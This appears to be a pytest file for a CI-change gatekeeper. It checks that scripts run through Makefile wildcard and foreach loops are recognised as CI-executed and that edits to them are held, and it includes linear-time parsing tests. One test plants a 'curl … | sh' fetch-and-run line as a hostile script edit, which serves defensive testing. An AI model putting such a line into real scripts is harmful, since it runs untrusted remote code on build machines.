"""Misses 10: a make recipe that loops over `$(wildcard …)` runs each file the glob matches (runvars.make_text reads
the call as its globs, and `$(foreach VAR,LIST,BODY)` as the shell's `for VAR in LIST; do BODY; done`, so the loop
reader, ciloops.py, names them). `check:` with `for f in $(wildcard hack/verify-*.sh); do bash $$f; done`, or the
glob through a variable (`CHECKS := $(wildcard …)`), or `$(foreach s,$(wildcard …),bash $(s);)` runs
`hack/verify-x.sh` under `make check`; on be985d92 it stayed `src` and an edit of it exit 0. Real `make -n` is the
truth: it prints each script. Look-alikes: a glob a compiler, a formatter or a copy is handed (`gcc $(SRCS)`, `black
$(PY)`, `cp $(DOCS) out/`), a target CI does not run."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import runvars

# (the glob's folder and stem, the script's type, how the loop runs `{v}`, the shell's variable)
SCRIPTS = [("hack/verify-", "sh", "bash {v}"), ("ci/checks/", "sh", "{v}"), ("scripts/lint/", "py", "python3 {v}"),
           ("tools/", "sh", "sh -e {v}")]
FORMS = [
    "check:\n\tfor f in $(wildcard {glob}); do {run}; done\n",
    "check:\n\t@for f in ${{wildcard {glob}}}; do {run} || exit 1; done\n",
    "CHECKS := $(wildcard {glob})\n\ncheck:\n\tfor f in $(CHECKS); do {run}; done\n",
    "CHECKS = $(wildcard {glob} other/*.none)\ncheck:\n\t@set -e; for f in $(CHECKS); do \\\n\t\t{run}; \\\n\tdone\n",
    "check:\n\t$(foreach f,$(wildcard {glob}),{each};)\n",
    "CHECKS := $(wildcard {glob})\ncheck:\n\t$(foreach f,$(CHECKS),{each} &&) true\n",
]


def _variants() -> list[tuple[str, str]]:
    out = []
    for stem, kind, run in SCRIPTS:
        for form in FORMS:
            text = form.format(glob=f"{stem}*.{kind}", run=run.format(v="$$f"), each=run.format(v="$(f)"))
            out.append((text, f"{stem}x.{kind}"))
    return out


def _files(makefile: str, script: str, command: str = "make check") -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command), "Makefile": makefile,
            script: "#!/bin/sh\necho ok\n", "README.md": "x\n"}


@each_case("makefile, script", _variants())
def test_a_script_a_recipe_loops_over_by_wildcard_is_ci(makefile: str, script: str) -> None:
    assert script in tree_runs(_files(makefile, script)), makefile  # before: 24/24 missed


@pytest.mark.skipif(shutil.which("make") is None, reason="no make")
@each_case("makefile, script", _variants())
def test_real_make_runs_each_script(tmp_path: Path, makefile: str, script: str) -> None:
    for path, text in _files(makefile, script).items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    done = subprocess.run(["make", "-n", "check"], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert script in done.stdout, done.stdout


@each_case("makefile, kept", [
    ("SRCS := $(wildcard src/*.c)\nbuild:\n\tgcc -o app $(SRCS)\ncheck: build\n", "src/a.c"),
    ("PY := $(wildcard src/*.py)\ncheck:\n\tblack --check $(PY)\n", "src/a.py"),
    ("DOCS := $(wildcard docs/*.sh)\ncheck:\n\tcp $(DOCS) out/\n", "docs/a.sh"),
    ("check:\n\techo $(wildcard tools/*.sh)\n", "tools/a.sh"),
    ("release:\n\tfor f in $(wildcard deploy/*.sh); do bash $$f; done\ncheck:\n\ttrue\n", "deploy/a.sh"),
])
def test_look_alikes_keep_their_bucket(makefile: str, kept: str) -> None:
    assert kept not in tree_runs(_files(makefile, kept)), makefile


@each_case("makefile, reached", [
    ("SUBDIRS := $(wildcard */.)\nall:\n\tfor d in $(SUBDIRS); do $(MAKE) -C $$d; done\n", True),
    ("all:\n\tfor d in cmd/*/; do $(MAKE) -C $$d; done\n", True),
    ("UNPACK = tar xzf - --wildcards \"**/lint\"\nSRCS := $(wildcard src/*.c)\nall:\n\t$(MAKE) -C $(SUB)\n", False),
])
def test_a_submake_over_a_folder_glob_enters_any_folder(makefile: str, reached: bool) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="make all"), "Makefile": makefile,
             "cmd/one/Makefile": "all:\n\ttrue\n", "README.md": "x\n"}
    assert ("cmd/one/Makefile" in tree_runs(files)) is reached, makefile


def test_an_edit_of_a_script_a_wildcard_loop_runs_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="make verify"),
            "Makefile": "verify:\n\tfor f in $(wildcard hack/verify-*.sh); do bash $$f; done\n",
            "hack/verify-gofmt.sh": "#!/bin/sh\ngofmt -l .\n"}
    case = committed(tmp_path, base, {"hack/verify-gofmt.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["hack/verify-gofmt.sh"]), named  # before: exit 0


@each_case("hostile", [repeated("$(wildcard a/*.sh)"), repeated("$(wildcard ", "", ")"),
                       repeated("$(foreach f,a b,bash $(f);)"), repeated("$(foreach f,", "", "x)"),
                       repeated("$(foreach f,a,$(f)$(f)")])
def test_hostile_makefiles_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(runvars.make_text, hostile, budget=0.5)
